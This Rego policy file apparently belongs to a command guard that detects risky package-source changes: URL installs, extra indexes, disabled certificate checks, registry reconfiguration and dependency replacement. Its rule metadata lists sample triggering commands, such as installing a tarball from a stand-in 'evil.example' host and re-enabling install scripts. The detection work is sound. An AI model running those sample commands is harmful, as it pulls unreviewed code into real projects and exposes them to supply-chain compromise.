# METADATA
# title: Where packages come from
# description: |
#   Addresses, registries and settings that decide whose code is installed.
package guard.rules.packagesource

import data.guard.form
import data.guard.loopback
import data.guard.stage

# METADATA
# title: Installs from an address
# description: A package from an address is reviewed and recorded by nobody, and may run scripts on installation.
# custom:
#   id: package.foreign
#   remedy: install it by name and version from the registry
#   fires: 'npm install https://evil.example/pkg.tgz'
#   quiet: npm install left-pad
hit contains {"id": "package.foreign", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"npm", "pnpm", "yarn", "bun", "pip", "pip3", "uv", "gem", "cargo", "poetry", "pipx", "python", "python3"}
	some word in array.concat(s.operands, _requirements(s))
	_address(s, word)
	_installs(s)
	not stage.help(s)
	msg := sprintf("installs code from an address: %s", [stage.cut(word)])
}

# METADATA
# title: Takes packages from another place
# description: Whoever runs that server decides what is installed; a name that is also public may come from there.
# custom:
#   id: package.source
#   remedy: leave the option out, or set the index in the project's configuration and let a person review it
#   fires: pip install --extra-index-url https://packages.example/simple lib
#   quiet: pip install torch --index-url https://download.pytorch.org/whl/cpu
hit contains {"id": "package.source", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	data.guard.rules.packagesource.managers[s.name]
	some o in s.options
	o.name in {
		"registry", "index-url", "extra-index-url", "default-index", "index", "i", "find-links", "f", "source", "s",
		"clear-sources", "trusted-host", "c", "channel",
	}
	strings.any_prefix_match(o.value, ["http://", "https://", "ftp://"])
	not _known_source(o.value)
	not stage.help(s)
	msg := sprintf("takes packages from %s", [stage.cut(o.value)])
}

# METADATA
# title: Installs without checking who answers
# description: With certificates unchecked, whoever is on the way decides what is installed.
# custom:
#   id: package.unverified
#   remedy: leave the option out; add the missing certificate instead
#   fires: pip install --trusted-host packages.example lib
#   quiet: pip install lib
hit contains {"id": "package.unverified", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	data.guard.rules.packagesource.managers[s.name]
	some word in s.args
	strings.any_prefix_match(word, ["--trusted-host", "--strict-ssl=false", "--no-strict-ssl", "--allow-insecure", "--insecure"])
	msg := sprintf("does not check where it comes from: %s", [stage.line(s)])
}

# METADATA
# title: Changes where packages come from
# description: A registry, proxy or script setting decides what every later installation runs.
# custom:
#   id: package.config
#   remedy: keep it in the project's own configuration and let a person review it
#   fires: npm config set ignore-scripts false
#   quiet: npm config get registry
hit contains {"id": "package.config", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"npm", "pnpm", "yarn", "pip", "pip3", "gem", "bundle", "cargo", "poetry", "go", "composer", "conda", "mamba", "add-apt-repository", "apt-add-repository", "apt-key"}
	_sets_source(s)
	not stage.help(s)
	msg := sprintf("changes where packages come from: %s", [stage.line(s)])
}

# METADATA
# title: Puts other code in a package's place
# description: |
#   A replacement is code of another author under the name that was reviewed, for
#   everything that depends on it.
# custom:
#   id: package.replace
#   remedy: replace it by a folder of this project, or let a person review the other code
#   fires: go mod edit -replace example.com/lib=example.org/fork@v1.0.0
#   quiet: go mod edit -replace example.com/lib=../lib
hit contains {"id": "package.replace", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	others := _edited(s) | _named(s)
	some other in others
	msg := sprintf("puts other code in a package's place: %s", [stage.cut(other)])
}

# go mod edit -replace old=new, in one word or in two
_edited(s) := {other |
	s.name == "go"
	s.sub in {"mod edit", "work edit"}
	some i, word in s.args
	parts := split(_replacement(s, i, word), "=")
	other := parts[count(parts) - 1]
	not strings.any_prefix_match(other, [".", "/"])
}

_replacement(_, _, word) := word if {
	strings.any_prefix_match(word, ["-replace=", "--replace="])
	count(split(word, "=")) > 2
}

_replacement(s, i, word) := s.args[i + 1] if word in {"-replace", "--replace"}

# npm pkg set overrides.a=npm:b, npm install a@github:b/c
_named(s) := {other |
	s.name in {"npm", "pnpm", "yarn", "bun"}
	some word in s.operands
	other := _instead(word)
	contains(other, ":")
	scheme := split(other, ":")[0]
	_from_elsewhere(scheme)
	not _further_name(word, scheme)
}

# npm install react-17@npm:react@17 gives a package one more name.
_further_name(word, "npm") if not strings.any_prefix_match(word, _overriding)

_overriding := ["overrides.", "resolutions.", "pnpm.overrides."]

_instead(word) := substring(word, indexof(word, "=") + 1, -1) if strings.any_prefix_match(word, _overriding)

# of @scope/a@github:b/c what follows the name
_instead(word) := substring(word, i + 1, -1) if {
	not strings.any_prefix_match(word, _overriding)
	plain := _unscoped(word)
	i := indexof(plain, "@")
	form.made_of(substring(plain, 0, i), "abcdefghijklmnopqrstuvwxyz0123456789._-")
}

_unscoped(word) := word if not startswith(word, "@")

_unscoped(word) := substring(word, indexof(word, "/") + 1, -1) if startswith(word, "@")

_from_elsewhere(scheme) if scheme in {"npm", "github", "gitlab", "bitbucket", "gist", "git", "http", "https"}

_from_elsewhere(scheme) if startswith(scheme, "git+")

_installs(s) if {
	some word in array.concat([s.sub], s.args)
	word in {"install", "i", "add", "update", "upgrade", "uninstall", "remove", "rm", "ci", "link", "un"}
}

_known_source(url) if {
	startswith(url, "https://")
	data.guard.rules.packagesource.sources[split(url, "/")[2]]
}

_known_source(url) if {
	strings.any_prefix_match(url, ["http://", "https://"])
	loopback.address(url)
}

_address(_, word) if {
	_is_address(word)
	not _known_source(word)
}

# npm's short form for a repository of GitHub
_address(s, word) if {
	s.name in {"npm", "pnpm", "yarn", "bun"}
	[user, repository] := split(split(word, "#")[0], "/")
	form.made_of(user, concat("", [form.alphanumeric, "-"]))
	not startswith(user, "-")
	form.made_of(repository, concat("", [form.alphanumeric, "._-"]))
}

_address(s, word) if {
	s.name in {"pip", "pip3", "uv", "pipx", "python", "python3"}
	parts := split(word, "@") # name @ git+https://...
	form.made_of(trim_right(parts[0], " "), concat("", [form.alphanumeric, "._[],-"]))
	strings.any_prefix_match(trim_left(parts[1], " "), ["git+", "http:", "https:"])
}

_is_address(word) if strings.any_prefix_match(word, [
	"git+", "http:", "https:", "git:", "ssh:", "github:", "gitlab:", "bitbucket:", "gist:", "git@",
])

# hg+https://, svn+http://
_is_address(word) if {
	contains(word, ":")
	strings.any_suffix_match(split(word, ":")[0], ["+http", "+https"])
}

_requirements(s) := [o.value | some o in s.options; o.name in {"r", "requirement", "e", "editable", "git"}]

_sets_source(s) if {
	words := [word | some word in array.concat(split(s.sub, " "), s.operands); word != ""]
	words[0] in {"config", "set"}
	some verb in words
	verb in {"set", "delete", "edit"}
	some key in words
	form.fits(lower(key), data.guard.rules.packagesource.settings)
}

# composer, poetry and conda have no word for it; one word alone is asked for.
_sets_source(s) if {
	s.name in {"composer", "poetry", "conda", "mamba", "bundle"}
	"config" in s.args
	keys := [word | some word in s.args; word != "config"; not startswith(word, "-")]
	count(keys) > 1
	form.fits(lower(keys[_]), data.guard.rules.packagesource.settings)
}

_sets_source(s) if {
	s.name in {"add-apt-repository", "apt-add-repository", "apt-key"}
	count(s.args) > 0
	not s.args[0] in {"list", "--list", "-L", "finger", "export"}
}

_sets_source(s) if {
	s.name == "go"
	s.sub == "env"
	"w" in s.flags
}

_sets_source(s) if {
	s.name == "gem"
	stage.verb(s) == "sources"
	some flag in ["a", "add", "r", "remove"]
	flag in s.flags
}
